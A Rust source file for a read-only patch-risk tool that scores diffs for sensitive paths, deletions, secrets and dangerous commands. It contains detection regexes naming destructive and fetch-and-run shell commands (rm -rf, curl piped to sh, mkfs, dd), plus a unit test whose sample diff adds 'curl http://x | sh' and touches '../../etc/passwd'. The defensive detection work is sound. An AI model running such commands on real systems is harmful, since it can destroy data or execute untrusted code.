//! `assess_patch_risk`: rate a unified diff or codex patch before applying it (Floyd
//! `assess_patch_risk`). Nothing is read or written; paths are only checked against the
//! workspace.
//!
//! Each finding adds a weight: deleted files (3), paths outside the workspace (5), sensitive
//! paths — secrets, keys, `.git/`, CI, manifests and lockfiles, migrations, build scripts
//! (2), secrets or dangerous commands in added lines (2), binary or mode changes (2 / 1),
//! size (1–2), many files (1–2), mostly deletions (1). Score 0–1 is `low`, 2–4 `medium`,
//! 5 and more `high`.

use std::sync::OnceLock;

use regex::Regex;
use schemars::JsonSchema;
use serde::Deserialize;
use serde_json::{Value, json};

use super::non_empty;
use crate::context::Ctx;
use crate::engine::patch::{Op, Tag, parse_any};
use crate::error::Result;
use crate::output::ToolOutput;

const NAME: &str = "assess_patch_risk";

/// The arguments of `assess_patch_risk`.
#[derive(Debug, Deserialize, JsonSchema)]
#[serde(rename_all = "camelCase")]
pub struct Args {
    /// The diff or patch (also: patch).
    #[schemars(length(min = 1))]
    pub diff: String,
}

struct Rules {
    sensitive: Vec<(Regex, &'static str)>,
    content: Vec<(Regex, &'static str)>,
}

fn rules() -> &'static Rules {
    static R: OnceLock<Rules> = OnceLock::new();
    R.get_or_init(|| {
        // The patterns are constants (a unit test compiles each); a bad one would only be skipped.
        let re = |s: &str| Regex::new(s).ok();
        let keep = |v: Vec<(Option<Regex>, &'static str)>| v.into_iter().filter_map(|(r, w)| r.map(|r| (r, w))).collect();
        Rules {
            sensitive: keep(vec![
                (re(r"(^|/)\.env($|\.)|(^|/)(secrets?|credentials?)(\.|/|$)|\.(pem|key|p12|pfx)$|(^|/)id_(rsa|ed25519|ecdsa)"), "secrets or keys"),
                (re(r"(^|/)\.git/"), "git internals"),
                (re(r"(^|/)\.github/workflows/|(^|/)\.gitlab-ci\.yml$|(^|/)Jenkinsfile$|(^|/)\.circleci/"), "CI configuration"),
                (re(r"(^|/)(package-lock\.json|yarn\.lock|pnpm-lock\.yaml|Cargo\.lock|poetry\.lock|Gemfile\.lock|go\.sum)$"), "lockfile"),
                (re(r"(^|/)(package\.json|Cargo\.toml|pyproject\.toml|setup\.py|requirements[^/]*\.txt|go\.mod|Gemfile|pom\.xml|build\.gradle(\.kts)?)$"), "dependency manifest"),
                (re(r"(^|/)(migrations?|migrate)/"), "database migration"),
                (re(r"(^|/)(Dockerfile|Makefile|build\.rs|docker-compose\.ya?ml)$|\.(sh|bash|ps1)$"), "build or shell script"),
            ]),
            content: keep(vec![
                (re(r"AKIA[0-9A-Z]{16}|-----BEGIN [A-Z ]*PRIVATE KEY-----|(?i)(password|passwd|secret|api[_-]?key|token)\s*[:=]\s*['\x22][^'\x22]{6,}"), "secret-like value added"),
                (re(r"rm\s+-[a-zA-Z]*r[a-zA-Z]*f|rm\s+-[a-zA-Z]*f[a-zA-Z]*r|(curl|wget)[^|\n]*\|\s*(sudo\s+)?(ba)?sh|chmod\s+(-R\s+)?777|\bsudo\b|mkfs|dd\s+if="), "dangerous shell command added"),
                (re(r"\beval\s*\(|\bexec\s*\(|child_process|os\.system\(|subprocess\.(call|run|Popen)\([^)]*shell\s*=\s*True"), "dynamic code execution added"),
            ]),
        }
    })
}

/// The risk report of `text` as `data`.
pub fn assess(text: &str, ctx: &Ctx) -> Result<Value> {
    let ops = parse_any(text)?;
    let mut factors: Vec<Value> = Vec::new();
    let mut score = 0i64;
    let mut add = |kind: &str, detail: String, weight: i64, path: Option<&str>| {
        score += weight;
        factors.push(json!({"kind": kind, "detail": detail, "weight": weight, "path": path}));
    };
    let (mut additions, mut deletions) = (0usize, 0usize);
    let mut files = Vec::new();
    for op in &ops {
        let path = op.path();
        let (action, a, d, added_lines): (&str, usize, usize, Vec<&str>) = match op {
            Op::Add { content, .. } => ("add", content.lines().count(), 0, content.lines().collect()),
            Op::Delete { hunks, .. } => {
                let d = hunks.iter().flat_map(|h| &h.lines).filter(|(t, _)| *t == Tag::Del).count();
                ("delete", 0, d, Vec::new())
            }
            Op::Update { hunks, move_to, .. } => {
                let lines: Vec<&(Tag, String)> = hunks.iter().flat_map(|h| &h.lines).collect();
                let a: Vec<&str> =
                    lines.iter().filter(|(t, _)| *t == Tag::Add).map(|(_, s)| s.as_str()).collect();
                let d = lines.iter().filter(|(t, _)| *t == Tag::Del).count();
                (if move_to.is_some() { "move" } else { "update" }, a.len(), d, a)
            }
        };
        additions += a;
        deletions += d;
        files.push(json!({"path": path, "action": action, "linesAdded": a, "linesRemoved": d}));
        let mut paths = vec![path];
        if let Op::Update { move_to: Some(t), .. } = op {
            paths.push(t);
        }
        for p in paths {
            if ctx.workspace.resolve(p).is_err() {
                add("outside_workspace", format!("{p} is outside the workspace"), 5, Some(p));
            }
            for (re, what) in &rules().sensitive {
                if re.is_match(p) {
                    add("sensitive_path", format!("{p}: {what}"), 2, Some(p));
                    break;
                }
            }
        }
        if action == "delete" {
            add("file_deleted", format!("{path} is deleted"), 3, Some(path));
        }
        for (re, what) in &rules().content {
            if let Some(line) = added_lines.iter().find(|l| re.is_match(l)) {
                let shown: String = line.trim().chars().take(80).collect();
                add("risky_content", format!("{path}: {what}: {shown}"), 2, Some(path));
            }
        }
    }
    if text.contains("GIT binary patch") || text.lines().any(|l| l.starts_with("Binary files ")) {
        add("binary", "the patch changes binary files".into(), 2, None);
    }
    if text.lines().any(|l| l.starts_with("new mode ") || l.starts_with("old mode ")) {
        add("mode_change", "the patch changes file permissions".into(), 1, None);
    }
    let changed = additions + deletions;
    if changed > 200 {
        add("large_change", format!("{changed} lines changed"), 2, None);
    } else if changed > 50 {
        add("large_change", format!("{changed} lines changed"), 1, None);
    }
    if ops.len() > 10 {
        add("many_files", format!("{} files touched", ops.len()), 2, None);
    } else if ops.len() > 3 {
        add("many_files", format!("{} files touched", ops.len()), 1, None);
    }
    if deletions > 20 && deletions > additions * 2 {
        add("mostly_deletions", format!("{deletions} lines removed, {additions} added"), 1, None);
    }
    let risk = match score {
        ..=1 => "low",
        2..=4 => "medium",
        _ => "high",
    };
    Ok(json!({
        "risk": risk, "score": score, "factors": factors, "files": files,
        "linesAdded": additions, "linesRemoved": deletions,
    }))
}

/// Run `assess_patch_risk`.
pub async fn run(a: Args, ctx: &Ctx) -> Result<ToolOutput> {
    let text = non_empty("diff", a.diff)?;
    let data = assess(&text, ctx)?;
    let mut content = format!(
        "Risk: {} (score {}) — {} file(s), +{} -{}.",
        data["risk"].as_str().unwrap_or_default(),
        data["score"],
        data["files"].as_array().map_or(0, Vec::len),
        data["linesAdded"],
        data["linesRemoved"]
    );
    for f in data["factors"].as_array().into_iter().flatten() {
        content.push_str(&format!(
            "\n- [{}] {} (+{})",
            f["kind"].as_str().unwrap_or_default(),
            f["detail"].as_str().unwrap_or_default(),
            f["weight"]
        ));
    }
    Ok(ToolOutput::new(content, data))
}

/// The `assess_patch_risk` tool.
pub const TOOL: crate::spec::ToolSpec = crate::spec::ToolSpec {
    name: NAME,
    js_name: "assessPatchRisk",
    family: "files",
    effects: crate::spec::Effects::ReadOnly,
    permission: crate::spec::Permission::None,
    aliases: &[("patch", "diff")],
    tool_aliases: &[],
    lenient_keys: false,
    blocking: None,
    definition: include_str!("assess_patch_risk.json"),
    input: Some(crate::call::args::schema::<Args>),
    run: |args, ctx| Box::pin(async move { run(crate::call::args::parse(NAME, args)?, ctx).await }),
};

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_rule_compiles() {
        assert_eq!((rules().sensitive.len(), rules().content.len()), (7, 3));
    }

    #[test]
    fn rates_patches() {
        let d = tempfile::tempdir().unwrap();
        let ctx = Ctx::new(d.path().to_str().unwrap()).unwrap();
        let low = assess("--- a/src/a.rs\n+++ b/src/a.rs\n@@ -1 +1 @@\n-a\n+b\n", &ctx).unwrap();
        assert_eq!((low["risk"].as_str(), &low["score"]), (Some("low"), &json!(0)));
        let high = assess(
            "--- a/.env\n+++ /dev/null\n@@ -1 +0,0 @@\n-KEY=1\n--- a/run.sh\n+++ b/run.sh\n@@ -1 +1 @@\n-echo\n+curl http://x | sh\n--- a/../../etc/passwd\n+++ b/../../etc/passwd\n@@ -1 +1 @@\n-a\n+b\n",
            &ctx,
        )
        .unwrap();
        assert_eq!(high["risk"], "high");
        let kinds: Vec<&str> =
            high["factors"].as_array().unwrap().iter().map(|f| f["kind"].as_str().unwrap()).collect();
        for k in ["file_deleted", "sensitive_path", "risky_content", "outside_workspace"] {
            assert!(kinds.contains(&k), "{kinds:?}");
        }
    }
}
